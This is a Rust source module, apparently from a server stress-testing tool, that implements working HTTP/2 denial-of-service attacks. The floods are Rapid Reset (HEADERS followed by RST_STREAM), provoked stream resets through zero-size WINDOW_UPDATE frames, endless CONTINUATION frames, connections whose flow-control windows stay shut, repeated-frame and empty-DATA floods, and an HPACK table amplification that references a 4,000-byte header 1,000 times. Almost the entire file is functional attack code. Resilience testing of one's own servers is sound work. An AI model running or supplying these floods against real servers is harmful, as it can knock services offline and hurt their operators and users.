//! Attacks with HTTP/2 frames.

use std::io;
use std::net::TcpStream;

use super::Target;
use crate::http2::filler;
use crate::support::frames::{ACK, END_HEADERS, END_STREAM, Frames, kind};

const WHOLE: u8 = END_HEADERS | END_STREAM;

/// Opens one connection after another, and calls `send` on each with a new stream in each round, until the server
/// closes the connection or stops reading.
fn flood(
    target: &Target,
    send: impl Fn(&mut Frames<TcpStream>, u32) -> io::Result<()>,
) -> Vec<TcpStream> {
    target.flood(|connection| {
        let mut frames = Frames::over(connection, "a", &[])?;
        let mut stream = 1;
        while target.goes_on() {
            send(&mut frames, stream)?;
            stream += 2;
        }
        Ok(())
    })
}

pub(super) fn rapid_reset(target: &Target) -> Vec<TcpStream> {
    flood(target, |frames, stream| {
        let block = frames.get_block("/reviews.json");
        frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
        let cancel = 8_u32.to_be_bytes();
        frames.try_send(kind::RST_STREAM, 0, stream, &cancel)
    })
}

/// A WINDOW_UPDATE of 0 is a stream error (RFC 9113 §6.9), so the server has to reset the stream.
pub(super) fn made_resets(target: &Target) -> Vec<TcpStream> {
    flood(target, |frames, stream| {
        let block = frames.get_block("/reviews.json");
        frames.try_send(kind::HEADERS, END_HEADERS, stream, &block)?;
        frames.try_send(kind::WINDOW_UPDATE, 0, stream, &[0; 4])
    })
}

pub(super) fn continuation(target: &Target) -> Vec<TcpStream> {
    let filler = filler();
    flood(target, |frames, stream| match stream {
        1 => {
            let block = frames.get_block("/healthz");
            frames.try_send(kind::HEADERS, END_STREAM, 1, &block)
        }
        _ => frames.try_send(kind::CONTINUATION, 0, 1, &filler),
    })
}

/// A crowd that requests large documents and never opens a flow-control window.
pub(super) fn shut_windows(target: &Target) -> Vec<TcpStream> {
    let held = target.crowd(|_, connection| {
        let initial_window_size = (4, 0);
        let connection = connection.try_clone()?;
        let mut frames = Frames::over(connection, "a", &[initial_window_size])?;
        let block = frames.get_block("/reviews.json");
        for stream in [1, 3, 5, 7] {
            frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
        }
        Ok(())
    });
    target.wait();
    held
}

/// Sends the same frame repeatedly.
pub(super) fn same(target: &Target, kind: u8, payload: &[u8]) -> Vec<TcpStream> {
    flood(target, |frames, _| frames.try_send(kind, 0, 0, payload))
}

pub(super) fn empty_data(target: &Target) -> Vec<TcpStream> {
    flood(target, |frames, stream| match stream {
        1 => {
            let block = frames.post_block("/mcp");
            frames.try_send(kind::HEADERS, END_HEADERS, 1, &block)
        }
        _ => frames.try_send(kind::DATA, 0, 1, &[]),
    })
}

/// Adds one entry of 4,000 bytes to the dynamic table, then refers to it 1,000 times, a byte each (RFC 7541 §6.1).
pub(super) fn unpacking(target: &Target) -> Vec<TcpStream> {
    flood(target, |frames, stream| {
        let mut block = frames.get_block("/healthz");
        block.extend([0x40, 0x01, b'x', 0x7f, 0xa1, 0x1e]);
        block.extend([b'y'; 4_000]);
        block.extend([0xbe; 1_000]);
        frames.try_send(kind::HEADERS, WHOLE, stream, &block)?;
        frames.try_send(kind::SETTINGS, ACK, 0, &[])
    })
}
